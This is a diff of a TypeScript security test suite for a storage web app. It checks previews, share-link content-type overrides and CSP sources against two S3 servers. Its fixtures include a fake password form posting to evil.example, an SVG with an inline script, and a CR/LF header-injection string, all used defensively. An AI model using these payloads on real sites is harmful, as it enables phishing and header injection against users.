@@ -1,12 +1,14 @@
 /**
  * What a stranger's input or a hostile object can do through storage, against the real database
- * and the real Swift S3 server (which honours response-content-type): endpoints are URLs and
- * nothing more, the CSP names only the signed-in owner's storage, previews cannot run content,
- * and the content-type override cannot make a link render a page.
+ * and each real S3 server (Swift s3api and Ceph RGW, both of which honour response-content-type):
+ * previews cannot run content, and the content-type override cannot make a link render a page (on
+ * each server); endpoints are URLs and nothing more, and the CSP names only the signed-in owner's
+ * storage (no storage call: once).
  */
 import type { S3Client } from "@aws-sdk/client-s3";
 import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
 import type { SessionUser } from "@/lib/auth/session";
+import type { TestStorage } from "./storages";
 
 vi.mock("@/lib/auth/session", async () => (await import("./request-context")).sessionModule);
 vi.mock("next/cache", async () => (await import("./request-context")).cacheModule);
@@ -21,8 +23,8 @@ const { openConnectionOrThrow } = await import("@/lib/storage/connections");
 const { loadObjectView } = await import("@/lib/storage/listing");
 const { storageOriginsForCsp } = await import("@/lib/security/storage-origins");
 const h = await import("./helpers");
+const { adminS3For, storageCases } = await import("./storages");
 
-const { services } = h;
 let owner: SessionUser;
 let stranger: SessionUser;
 let admin: S3Client;
@@ -32,15 +34,18 @@ let connectionId: string;
 const XHTML_FORM =
   '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body><form action="https://evil.example/"><label>Password <input name="password" type="password"/></label><button>Sign in</button></form></body></html>';
 
-function connectionFields(overrides: Record<string, string> = {}): Record<string, string> {
+/** The server the storage-independent tests name in their forms (nothing is sent to it). */
+const anyStorage = storageCases()[0]!;
+
+function connectionFields(overrides: Record<string, string> = {}, storage: TestStorage = anyStorage): Record<string, string> {
   return {
     name: `Conn ${h.randomSuffix()}`,
     provider: "custom",
-    endpoint: services.s3.endpoint,
-    region: services.s3.region,
+    endpoint: storage.endpoint,
+    region: storage.region,
     forcePathStyle: "on",
-    accessKeyId: services.s3.accessKeyId,
-    secretAccessKey: services.s3.secretAccessKey,
+    accessKeyId: storage.accessKeyId,
+    secretAccessKey: storage.secretAccessKey,
     buckets: "",
     ...overrides,
   };
@@ -51,25 +56,100 @@ const save = (fields: Record<string, string>) => h.runRedirectingAction(() => sa
 beforeAll(async () => {
   owner = await h.createTestUser("safety-owner");
   stranger = await h.createTestUser("safety-stranger");
-  admin = h.adminS3();
-  bucket = await h.createBucket(admin, "safety");
-  await h.putObjects(admin, bucket, [
-    { key: "invoice.pdf", body: Buffer.from(XHTML_FORM), contentType: "application/xhtml+xml" },
-    { key: "page.pdf", body: Buffer.from("<html><body><form><input name=password></form></body></html>"), contentType: "application/octet-stream" },
-    { key: "real.pdf", body: Buffer.from("%PDF-1.4\n%%EOF\n"), contentType: "application/pdf" },
-    { key: "photo.png", body: Buffer.from("not really a png"), contentType: "binary/octet-stream" },
-    { key: "logo.svg", body: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'), contentType: "image/svg+xml" },
-    { key: "notes.txt", body: Buffer.from("<b>plain</b> notes"), contentType: "text/plain" },
-  ]);
-  session.user = owner;
-  expect(await save(connectionFields({ name: "Owner's Swift" }))).toEqual({ state: expect.objectContaining({ status: "success" }) });
-  connectionId = (await db.storageConnection.findFirstOrThrow({ where: { ownerId: owner.id }, select: { id: true } })).id;
 });
 
 afterAll(async () => {
   session.user = null;
-  admin?.destroy();
   await h.deleteTestUsers(owner, stranger);
+});
+
+describe.each(storageCases())("on $name", (storage) => {
+  beforeAll(async () => {
+    admin = adminS3For(storage);
+    bucket = await h.createBucket(admin, "safety");
+    await h.putObjects(admin, bucket, [
+      { key: "invoice.pdf", body: Buffer.from(XHTML_FORM), contentType: "application/xhtml+xml" },
+      { key: "page.pdf", body: Buffer.from("<html><body><form><input name=password></form></body></html>"), contentType: "application/octet-stream" },
+      { key: "real.pdf", body: Buffer.from("%PDF-1.4\n%%EOF\n"), contentType: "application/pdf" },
+      { key: "photo.png", body: Buffer.from("not really a png"), contentType: "binary/octet-stream" },
+      { key: "logo.svg", body: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'), contentType: "image/svg+xml" },
+      { key: "notes.txt", body: Buffer.from("<b>plain</b> notes"), contentType: "text/plain" },
+    ]);
+    session.user = owner;
+    const name = `Owner's ${storage.name}`;
+    expect(await save(connectionFields({ name }, storage))).toEqual({ state: expect.objectContaining({ status: "success" }) });
+    connectionId = (await db.storageConnection.findFirstOrThrow({ where: { ownerId: owner.id, name }, select: { id: true } })).id;
+  });
+
+  afterAll(() => {
+    admin?.destroy();
+  });
+
+  describe("previews", () => {
+    async function view(key: string) {
+      const open = await openConnectionOrThrow(owner.id, connectionId);
+      const loaded = await loadObjectView(open, bucket, key);
+      if (!loaded.ok) throw new Error(`${key}: ${loaded.error.title}`);
+      return loaded.value;
+    }
+
+    it("does not render invoice.pdf stored as application/xhtml+xml", async () => {
+      const details = await view("invoice.pdf");
+      expect(details.contentType).toBe("application/xhtml+xml");
+      expect(details.preview).toBeNull();
+    });
+
+    it("gives no preview to an SVG", async () => {
+      expect((await view("logo.svg")).preview).toBeNull();
+    });
+
+    it.each([
+      ["real.pdf", "pdf", "application/pdf"],
+      ["page.pdf", "pdf", "application/pdf"],
+      ["photo.png", "image", "image/png"],
+    ])("forces the preview type: %s is served as %s (%s)", async (key, kind, type) => {
+      const details = await view(key);
+      expect(details.preview).toMatchObject({ kind, url: expect.stringContaining(`response-content-type=${encodeURIComponent(type)}`) });
+      const response = await h.fetchBytes((details.preview as { url: string }).url);
+      expect(response.status).toBe(200);
+      expect(response.headers.get("content-type")).toBe(type);
+      expect(response.headers.get("content-disposition")).toBe("inline");
+    });
+
+    it("shows text as text, read on the server", async () => {
+      expect((await view("notes.txt")).preview).toEqual({ kind: "text", text: "<b>plain</b> notes" });
+    });
+  });
+
+  describe("the content-type override in Quick Share", () => {
+    const share = (fields: Record<string, string>) =>
+      createShareLinkAction({ status: "idle" }, h.formData({ connectionId, bucket, key: "notes.txt", expiryMode: "preset", preset: "1h", ...fields }));
+
+    it.each([
+      ["text/html with Open in browser", { contentType: "text/html", disposition: "inline" }, /can run as a web page/],
+      ["image/svg+xml with Open in browser", { contentType: "image/svg+xml", disposition: "inline" }, /can run as a web page/],
+      ["XHTML with Open in browser", { contentType: "application/xhtml+xml; charset=utf-8", disposition: "inline" }, /can run as a web page/],
+      ["JavaScript with Open in browser", { contentType: "text/javascript", disposition: "inline" }, /can run as a web page/],
+      ["CR/LF inside a quoted parameter", { contentType: 'text/plain; charset="utf-8\r\nX-Injected: 1"', disposition: "attachment" }, /printable ASCII only/],
+      ["a line break at the end", { contentType: "text/plain\n", disposition: "attachment" }, /printable ASCII only/],
+    ])("refuses %s next to the field and creates nothing", async (_label, fields, message) => {
+      session.user = owner;
+      const before = await db.shareLink.count({ where: { ownerId: owner.id } });
+      const state = await share(fields);
+      expect(state).toMatchObject({ status: "invalid", fieldErrors: { contentType: [expect.stringMatching(message)] } });
+      expect(await db.shareLink.count({ where: { ownerId: owner.id } })).toBe(before);
+    });
+
+    it("allows an active type with Download: the link downloads it", async () => {
+      session.user = owner;
+      const state = await share({ contentType: "text/html", disposition: "attachment" });
+      expect(state).toMatchObject({ status: "success" });
+      const url = (state as { data: { url: string } }).data.url;
+      const response = await h.fetchBytes(url);
+      expect(response.headers.get("content-type")).toBe("text/html");
+      expect(response.headers.get("content-disposition")).toMatch(/^attachment;/);
+    });
+  });
 });
 
 describe("the endpoint field", () => {
@@ -101,11 +181,11 @@ describe("the endpoint field", () => {
 
   it("stores the parsed URL, not the text as typed", async () => {
     session.user = owner;
-    const upper = services.s3.endpoint.replace("http://", "HTTP://") + "//";
+    const upper = anyStorage.endpoint.replace("http://", "HTTP://") + "//";
     const name = `Normalised ${h.randomSuffix()}`;
     expect(await save(connectionFields({ name, endpoint: upper }))).toEqual({ state: expect.objectContaining({ status: "success" }) });
     const row = await db.storageConnection.findFirstOrThrow({ where: { ownerId: owner.id, name } });
-    expect(row.endpoint).toBe(services.s3.endpoint);
+    expect(row.endpoint).toBe(anyStorage.endpoint);
     await db.storageConnection.delete({ where: { id: row.id } });
   });
 });
@@ -123,75 +203,10 @@ describe("the Content-Security-Policy's storage sources", () => {
     });
 
     const ownerSources = await storageOriginsForCsp(owner.id);
-    expect(ownerSources).toEqual([services.s3.endpoint]);
+    // The owner has one connection on each server (made above): one origin each.
+    expect([...ownerSources].sort()).toEqual(storageCases().map((storage) => storage.endpoint).sort());
     const strangerSources = await storageOriginsForCsp(stranger.id);
     expect(strangerSources).toEqual([]);
     expect(JSON.stringify(ownerSources)).not.toContain("stranger");
-  });
-});
-
-describe("previews", () => {
-  async function view(key: string) {
-    const open = await openConnectionOrThrow(owner.id, connectionId);
-    const loaded = await loadObjectView(open, bucket, key);
-    if (!loaded.ok) throw new Error(`${key}: ${loaded.error.title}`);
-    return loaded.value;
-  }
-
-  it("does not render invoice.pdf stored as application/xhtml+xml", async () => {
-    const details = await view("invoice.pdf");
-    expect(details.contentType).toBe("application/xhtml+xml");
-    expect(details.preview).toBeNull();
-  });
-
-  it("gives no preview to an SVG", async () => {
-    expect((await view("logo.svg")).preview).toBeNull();
-  });
-
-  it.each([
-    ["real.pdf", "pdf", "application/pdf"],
-    ["page.pdf", "pdf", "application/pdf"],
-    ["photo.png", "image", "image/png"],
-  ])("forces the preview type: %s is served as %s (%s)", async (key, kind, type) => {
-    const details = await view(key);
-    expect(details.preview).toMatchObject({ kind, url: expect.stringContaining(`response-content-type=${encodeURIComponent(type)}`) });
-    const response = await h.fetchBytes((details.preview as { url: string }).url);
-    expect(response.status).toBe(200);
-    expect(response.headers.get("content-type")).toBe(type);
-    expect(response.headers.get("content-disposition")).toBe("inline");
-  });
-
-  it("shows text as text, read on the server", async () => {
-    expect((await view("notes.txt")).preview).toEqual({ kind: "text", text: "<b>plain</b> notes" });
-  });
-});
-
-describe("the content-type override in Quick Share", () => {
-  const share = (fields: Record<string, string>) =>
-    createShareLinkAction({ status: "idle" }, h.formData({ connectionId, bucket, key: "notes.txt", expiryMode: "preset", preset: "1h", ...fields }));
-
-  it.each([
-    ["text/html with Open in browser", { contentType: "text/html", disposition: "inline" }, /can run as a web page/],
-    ["image/svg+xml with Open in browser", { contentType: "image/svg+xml", disposition: "inline" }, /can run as a web page/],
-    ["XHTML with Open in browser", { contentType: "application/xhtml+xml; charset=utf-8", disposition: "inline" }, /can run as a web page/],
-    ["JavaScript with Open in browser", { contentType: "text/javascript", disposition: "inline" }, /can run as a web page/],
-    ["CR/LF inside a quoted parameter", { contentType: 'text/plain; charset="utf-8\r\nX-Injected: 1"', disposition: "attachment" }, /printable ASCII only/],
-    ["a line break at the end", { contentType: "text/plain\n", disposition: "attachment" }, /printable ASCII only/],
-  ])("refuses %s next to the field and creates nothing", async (_label, fields, message) => {
-    session.user = owner;
-    const before = await db.shareLink.count({ where: { ownerId: owner.id } });
-    const state = await share(fields);
-    expect(state).toMatchObject({ status: "invalid", fieldErrors: { contentType: [expect.stringMatching(message)] } });
-    expect(await db.shareLink.count({ where: { ownerId: owner.id } })).toBe(before);
-  });
-
-  it("allows an active type with Download: the link downloads it", async () => {
-    session.user = owner;
-    const state = await share({ contentType: "text/html", disposition: "attachment" });
-    expect(state).toMatchObject({ status: "success" });
-    const url = (state as { data: { url: string } }).data.url;
-    const response = await h.fetchBytes(url);
-    expect(response.headers.get("content-type")).toBe("text/html");
-    expect(response.headers.get("content-disposition")).toMatch(/^attachment;/);
   });
 });
